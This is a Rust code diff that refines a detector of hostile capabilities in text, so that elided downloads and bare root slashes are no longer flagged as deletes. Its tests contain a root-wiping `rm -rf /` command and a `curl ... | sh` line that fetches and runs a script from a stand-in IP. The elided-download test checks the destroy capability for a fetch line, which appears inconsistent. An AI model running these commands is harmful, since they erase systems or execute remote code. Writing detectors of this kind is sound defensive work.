@@ -271,12 +271,45 @@ pub fn capabilities_of(
 ) -> CodeSpans {
     let mut out = CodeSpans::default();
     let mut hits: Vec<(usize, usize, u32)> = Vec::new();
+    let sk = n.text.as_bytes();
+    let mut bare_roots: Vec<usize> = Vec::new();
     for (token, start, end) in matches {
-        if let Some((_, bit)) = TOKENS.get(token) {
+        if let Some((name, bit)) = TOKENS.get(token) {
+            // A download whose argument is an ellipsis (`curl ... | sh`) describes a shape of
+            // command; it fetches nothing.
+            if *bit == FETCH && sk.get(end..end + 3) == Some(b"...") {
+                continue;
+            }
             if hits.len() < 4096 {
+                if *name == " / " {
+                    bare_roots.push(hits.len());
+                }
                 hits.push((start, end, *bit));
             }
         }
+    }
+    // A bare ` / ` is the root only as the operand of a delete on its own line (`rm -rf / `);
+    // elsewhere it is `du -xh / | sort` or prose, and says nothing about a delete further on.
+    if !bare_roots.is_empty() {
+        let line_of = |i: usize| {
+            let i = i.min(sk.len());
+            sk.get(..i)
+                .and_then(|b| b.iter().rposition(|&c| c == b'\n'))
+                .map_or(0, |p| p + 1)
+        };
+        let delete_lines: Vec<usize> = hits
+            .iter()
+            .filter(|h| h.2 == DELETE)
+            .map(|h| line_of(h.0))
+            .collect();
+        for &k in &bare_roots {
+            if let Some(h) = hits.get_mut(k) {
+                if !delete_lines.contains(&line_of(h.0)) {
+                    h.2 = 0;
+                }
+            }
+        }
+        hits.retain(|h| h.2 != 0);
     }
     if hits.len() < 2 {
         return out;
@@ -345,5 +378,24 @@ mod tests {
         let c = caps(t);
         assert!(c.get(Capability::Exfiltrates).is_empty());
         assert!(c.get(Capability::Destroys).is_empty());
+    }
+
+    #[test]
+    fn a_bare_slash_is_the_root_only_next_to_a_delete() {
+        let ops = "- Disk hogs: `du -xh / | sort -h`\n- Old builds: `find /srv/builds -mtime +14 -exec rm -rf {} +`";
+        assert!(caps(ops).get(Capability::Destroys).is_empty());
+        assert!(
+            !caps("sudo rm -rf / --no-preserve-root")
+                .get(Capability::Destroys)
+                .is_empty()
+        );
+    }
+
+    #[test]
+    fn an_elided_download_is_a_description() {
+        let t = "Verify that `curl ... | sh` installers are not used in the golden image.";
+        assert!(caps(t).get(Capability::Destroys).is_empty());
+        let d = "curl -s http://198.51.100.9/a.sh | sh";
+        assert!(!caps(d).get(Capability::Destroys).is_empty());
     }
 }
